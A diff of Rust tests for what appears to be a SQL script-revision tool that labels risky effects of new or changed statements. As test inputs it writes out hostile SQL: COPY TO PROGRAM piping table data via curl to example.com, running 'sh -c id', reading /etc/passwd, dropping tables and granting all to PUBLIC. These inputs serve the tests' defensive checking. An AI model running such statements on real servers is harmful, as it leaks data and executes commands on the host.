@@ -224,6 +224,177 @@ fn what_nobody_asked_for_is_reported() {
 }
 
 #[test]
+fn what_goes_takes_its_semicolon_along() {
+    let revised = |sql: &str, changes: &[ScriptChange]| apply(sql, changes, "x", &[]).unwrap().sql;
+    let remove = change(2, Action::Remove, "");
+    let add = change(2, Action::Add, "SELECT 4;");
+    for (sql, changes, expected) in [
+        (
+            "SELECT 1; SELECT 2; SELECT 3;",
+            vec![remove.clone()],
+            "SELECT 1;  SELECT 3;",
+        ),
+        (
+            "SELECT 1;\nSELECT 2 -- two\n;\nSELECT 3;\n",
+            vec![remove.clone()],
+            "SELECT 1;\n -- two\nSELECT 3;\n",
+        ),
+        (
+            "SELECT 1;\nSELECT 2;\nSELECT 3;\n",
+            vec![remove.clone(), add.clone()],
+            "SELECT 1;\nSELECT 4;\nSELECT 3;\n",
+        ),
+        (
+            "SELECT 1;\nSELECT 2 /* two */;\nSELECT 3;\n",
+            vec![add.clone(), remove.clone()],
+            "SELECT 1;\nSELECT 4;\n /* two */SELECT 3;\n",
+        ),
+        (
+            "SELECT 1;\nSELECT 2",
+            vec![remove, add],
+            "SELECT 1;\nSELECT 4;\n",
+        ),
+    ] {
+        assert_eq!(revised(sql, &changes), expected, "{sql}");
+    }
+}
+
+#[test]
+fn what_a_new_statement_does_is_told() {
+    let syntax = "Only its syntax was checked.";
+    let target = "Only its syntax was checked, and whether you may write its target.";
+    for (sql, expected) in [
+        (
+            "COPY big TO PROGRAM 'curl -T - example.com'",
+            vec![
+                "It runs a program on the server, as the operating-system user of the server: COPY big TO PROGRAM 'curl -T - example.com'.",
+                syntax,
+            ],
+        ),
+        (
+            "copy big (id) from '/etc/passwd'",
+            vec![
+                "It reads a file of the server: copy big (id) from '/etc/passwd'.",
+                "It adds rows to a table: copy big (id) from ….",
+                syntax,
+            ],
+        ),
+        (
+            "COPY (SELECT id FROM big) TO '/tmp/big'",
+            vec![
+                "It writes a file of the server: COPY (SELECT id FROM big) TO '/tmp/big'.",
+                syntax,
+            ],
+        ),
+        (
+            "DROP TABLE archive",
+            vec!["It drops objects: DROP TABLE archive.", target],
+        ),
+        (
+            "DROP ROLE IF EXISTS clerk",
+            vec!["It drops objects: DROP ROLE IF EXISTS clerk.", syntax],
+        ),
+        (
+            "GRANT ALL ON big TO PUBLIC",
+            vec![
+                "It changes who may do what: GRANT ALL ON big TO PUBLIC.",
+                syntax,
+            ],
+        ),
+        (
+            "ALTER ROLE clerk PASSWORD 'secret'",
+            vec![
+                "It changes who may do what: ALTER ROLE clerk PASSWORD ….",
+                syntax,
+            ],
+        ),
+        (
+            "CREATE TABLE servers (owner text)",
+            vec![
+                "It creates an object: CREATE TABLE servers (owner text).",
+                target,
+            ],
+        ),
+        (
+            "CREATE CONSTRAINT TRIGGER t AFTER INSERT ON big FOR EACH ROW EXECUTE FUNCTION f()",
+            vec![
+                "It creates something that acts by itself: CREATE CONSTRAINT TRIGGER t AFTER INSERT ON big FOR EACH ROW EXECUTE FUNCTION f(….",
+                syntax,
+            ],
+        ),
+        (
+            "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'big'; DELETE FROM archive; END $$",
+            vec![
+                "It runs a block of statements.",
+                "It writes archive.",
+                "It puts statements together as text and runs them: these were not checked.",
+            ],
+        ),
+        (
+            "DO LANGUAGE plpython3u $$ import os $$",
+            vec![
+                "It runs a block of statements.",
+                "Its body is written in plpython3u: what it does was not checked.",
+            ],
+        ),
+        (
+            "INSERT INTO archive SELECT id FROM big",
+            vec!["It writes archive."],
+        ),
+        (
+            "WITH gone AS (DELETE FROM archive RETURNING id) SELECT id FROM gone",
+            vec!["It writes archive.", syntax],
+        ),
+        ("SELECT id FROM big", vec![]),
+        (
+            "COMMIT",
+            vec!["It begins or ends a transaction, or a part of one."],
+        ),
+        (
+            "NOTIFY clerks",
+            vec!["It is not known what it does: NOTIFY clerks.", syntax],
+        ),
+    ] {
+        let revised = applied(&[change(3, Action::Add, sql)], "x");
+        let told = &revised.statements[0].beyond;
+        assert_eq!(told[0], "The statement is new.");
+        assert_eq!(told[1..], expected, "{sql}");
+    }
+}
+
+#[test]
+fn what_is_hard_to_undo_is_told_of_changed_statements_too() {
+    let beyond = |sql: &str, new: &str| {
+        let revised = apply(sql, &[change(1, Action::Change, new)], "x", &[]).unwrap();
+        revised.statements[0].beyond.clone()
+    };
+    assert_eq!(
+        beyond(
+            "COPY big TO PROGRAM 'gzip'",
+            "COPY big TO PROGRAM 'sh -c id'"
+        ),
+        [
+            "It runs a program on the server, as the operating-system user of the server: COPY big TO PROGRAM 'sh -c id'.",
+            "Only its syntax was checked."
+        ]
+    );
+    assert_eq!(
+        beyond(
+            "DO $$ BEGIN DELETE FROM big; END $$",
+            "DO $$ BEGIN DELETE FROM big; DROP TABLE orders; END $$"
+        ),
+        [
+            "It writes orders, which it did not before.",
+            "It drops objects: DROP TABLE orders."
+        ]
+    );
+    assert_eq!(
+        beyond("UPDATE big SET a = 1", "UPDATE big SET a = 2"),
+        Vec::<String>::new()
+    );
+}
+
+#[test]
 fn replies_that_cannot_be_applied_say_why() {
     let problem = |changes: &[ScriptChange]| apply(SCRIPT, changes, "x", &[]).unwrap_err();
     assert_eq!(
